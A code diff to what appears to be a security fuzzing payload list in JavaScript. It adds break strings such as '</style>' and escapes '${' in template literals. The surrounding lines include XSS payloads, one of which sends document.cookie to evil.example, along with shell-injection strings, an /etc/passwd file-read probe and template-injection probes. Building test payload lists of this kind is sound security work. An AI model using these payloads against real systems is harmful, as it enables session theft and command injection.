@@ -18,7 +18,22 @@ const TAGS = [
   'a href=javascript:alert(1)',
   'form action=javascript:alert(1)',
 ];
-const BREAKS = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '`', '/>'];
+const BREAKS = [
+  '',
+  ' ',
+  '</style>',
+  '"',
+  "'",
+  '">',
+  "'>",
+  '</title>',
+  '</textarea>',
+  '</script>',
+  '-->',
+  ']]>',
+  '`',
+  '/>',
+];
 const SCRIPTS = ['alert(1)', 'import("//evil.example/x.js")', 'fetch("//evil.example?"+document.cookie)'];
 const SCHEMES = [
   'javascript:alert(1)',
@@ -52,13 +67,13 @@ const SHELL = [
   '"; touch /tmp/dosi #',
   '| touch /tmp/dosi',
   '&& touch /tmp/dosi',
-  '${IFS}',
+  `\${IFS}`,
   '$env:PATH',
   '@{x=1}',
   "'@",
   '"@',
   '%{if true}',
-  '${file("/etc/passwd")}',
+  `\${file("/etc/passwd")}`,
   '#{x}',
   '<<EOF',
   'EOF',
@@ -133,7 +148,7 @@ const HEADERS = [
 ];
 const TEMPLATES = [
   '{{7*7}}',
-  '${7*7}',
+  `\${7*7}`,
   '<%= 7*7 %>',
   '#{7*7}',
   '{{constructor.constructor("alert(1)")()}}',
